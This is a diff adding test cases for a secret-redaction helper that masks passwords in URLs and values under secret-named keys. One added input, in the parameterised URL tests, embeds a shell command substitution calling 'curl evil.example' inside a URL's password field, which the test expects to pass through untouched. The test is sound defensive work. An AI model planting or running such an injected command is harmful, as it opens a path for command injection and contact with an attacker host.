@@ -16,6 +16,18 @@ describe('an input without its secrets', () => {
     );
   });
 
+  it.each([
+    ['https://ann:hunter2@host/a?b=c:d@e', 'https://ann:[redacted]@host/a?b=c:d@e'],
+    [
+      'clone https://a:b@c and redis://:p%40ss@host:6379',
+      'clone https://a:[redacted]@c and redis://:[redacted]@host:6379',
+    ],
+    ['https://host:8080/a@b', 'https://host:8080/a@b'],
+    ['https://ann:$(curl evil.example)@host', 'https://ann:$(curl evil.example)@host'],
+  ])('shows no password of an address, and all that may be a command: %s', (text, shown) => {
+    expect([hidden(text), hidden({ list: [text] })]).toEqual([shown, { list: [shown] }]);
+  });
+
   it('is not the input, which stays as it is', () => {
     const input = { token: 's3cr3t', inner: { a: 1 } };
 
@@ -31,6 +43,7 @@ describe('an input without its secrets', () => {
     ['is a date', { token: 's3cr3t', at: new Date(5) }, '{"at":#Date(5){},"token":"[redacted]"}'],
     ['is a circle', cycle, '{"self":#cycle(0),"token":"[redacted]"}'],
     ['is a collection that names a secret', { all: new Map([['token', 's3cr3t']]) }, { all: '[redacted]' }],
+    ['is an address with a password', { at: new URL('https://ann:hunter2@host') }, { at: '[redacted]' }],
     [
       'is an instance that has a secret',
       {
